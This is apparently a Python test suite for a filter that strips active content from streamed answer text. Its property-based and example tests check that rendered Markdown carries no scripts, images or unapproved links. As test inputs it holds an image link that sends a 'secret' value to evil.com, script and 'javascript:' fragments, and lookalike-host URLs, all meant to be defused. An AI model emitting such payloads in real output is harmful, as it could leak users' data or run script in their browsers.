"""Nothing in an answer is active: judged by what a Markdown renderer makes of it, and the same at every split."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from application.redaction import active_content
from application.redaction.active_content import MAX_ADDRESS, REMOVED, ActiveContentFilter, inert

ALLOWED = ("docs.example.com", "*.example.org")
HOSTS = st.sampled_from([(), ALLOWED])
RENDERER = MarkdownIt("gfm-like", {"html": True, "linkify": True})
assert RENDERER.linkify is not None
RENDERER.linkify.set({"fuzzy_link": False})  # a host name without scheme or `www.` is a word
ACTIVE = ("script", "img", "iframe", "svg", "form", "input", "style", "object", "embed", "link", "meta", "base")
MARKS = """![ ]( ] [ ( ) < > img src= https:// http: // evil.com docs.example.com https://docs.example.com a.example.org
/p?q=1 www. mailto: x@y.z @ @evil.com ](https://docs.example.com <b> </b> <script> javascript: data:text/html, h &#58; m
&colon; " ' ` ``` \\ . : ! # * :// <a href= <svg onload= <x y= /> &lt; <!-- --> <? <![CDATA[ ]]> ftp xmpp: w é 1 [r]:
> - ^ _ ~ |"""
PIECES = st.sampled_from([*MARKS.split(), " ", "\n", "\n\n", "    ", "```\n", "\u200b"])
TEXTS = st.lists(PIECES, max_size=14).map("".join)


def leads_to(address: str) -> str:
    """The host as a browser finds it."""
    try:
        return urlsplit(address.replace("\\", "/")).hostname or ""
    except ValueError:
        return "?"


@settings(max_examples=250, deadline=None)
@given(TEXTS, HOSTS)
def test_a_renderer_finds_nothing_active(text: str, hosts: tuple[str, ...]) -> None:
    for node in LexborHTMLParser(RENDERER.render(inert(text, hosts))).css("body *"):
        assert node.tag not in ACTIVE
        for name, value in node.attributes.items():
            if name == "href":
                host = leads_to(str(value))
                assert (hosts and (host == hosts[0] or host.endswith(".example.org"))) or (
                    str(value).startswith("mailto:") and "?" not in str(value)
                )
            else:
                assert name in ("title", "start", "class")


@settings(max_examples=120, deadline=None)
@given(TEXTS, HOSTS, st.data())
def test_it_is_the_same_at_every_split(text: str, hosts: tuple[str, ...], data: st.DataObject) -> None:
    whole = inert(text, hosts)
    for cut in range(len(text) + 1):
        assert joined([text[:cut], text[cut:]], hosts) == whole
    assert joined(list(text), hosts) == whole
    sizes = data.draw(st.lists(st.integers(1, 5), min_size=len(text), max_size=len(text)))
    pieces, at = [], 0
    for size in sizes:
        pieces.append(text[at : at + size])
        at += size
    assert joined(pieces, hosts) == whole


def joined(pieces: list[str], hosts: tuple[str, ...]) -> str:
    content = ActiveContentFilter(hosts)
    return "".join([*map(content.feed, pieces), content.flush()])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [1]. ![x](https://evil.com/?q=secret)", f"See [1]. ! [x] ({REMOVED})"),
        ('[here](https://docs.example.com/a?b=c "t")', '[here](https://docs.example.com/a?b=c "t")'),
        ("[here](//docs.example.com)", "[here] (// docs.example.com)"),
        ("At https://docs.example.com. Or http://evil.com/a.", f"At https://docs.example.com/. Or {REMOVED}."),
        ("www.a.example.org#https://docs.example.comimg", f"www.a.example.org#{REMOVED}"),
        ("https://a.example.org/?u=https://a.example.org/b", "https://a.example.org/?u=https://a.example.org/b"),
        ("https://a.example.org/![x](https://a.example.org/p)", "https://a.example.org/! [x](https://a.example.org/p)"),
        ('https://docs.example.com"@evil.com', 'https://docs.example.com/"@evil.com'),
        ("https://docs.example.com.evil.com/x", REMOVED),
        ("https://a.example.org:8443/x www.evil.com", f"https://a.example.org:8443/x {REMOVED}"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("List<String> and <b>bold</b>, a < b", "List<String> and <b>bold</b>, a < b"),
        ("[r]: https://evil.com", f"[r] : {REMOVED}"),
        ("Great![1] At 10:30, src/a//b, and/or 5//2", "Great! [1] At 10:30, src/a//b, and/or 5//2"),
    ],
)
def test_what_becomes_of_it(text: str, shown: str) -> None:
    assert inert(text, ALLOWED) == shown


@pytest.mark.parametrize("begun", ["![", "<a ", "](https://docs.example.com/", "https://docs.example.com/", "<"])
def test_what_never_ends_is_not_held_back_for_ever(begun: str) -> None:
    content = ActiveContentFilter(ALLOWED)
    shown = [content.feed(piece) for piece in (begun, *["a" * 64] * 100)]
    assert len("".join(shown[: 3 + MAX_ADDRESS // 64])) > 0


def test_plain_words_are_never_held_back() -> None:
    content = ActiveContentFilter(())
    for piece in ("The", " answer", " is", " 30", " days", " (see", " above", ")."):
        assert content.feed(piece) == piece


def test_the_quick_look_at_a_piece_misses_nothing_that_the_patterns_see() -> None:
    for character in map(chr, range(0x3000)):
        for piece in (character, f"ab{character}", f"h{character}", f"{character}//x", f"{character * 3}.x"):
            seen = active_content._STOP.search(piece) or active_content._BEGUN.search(piece)
            assert active_content._may_be_active(piece) == bool(seen), piece
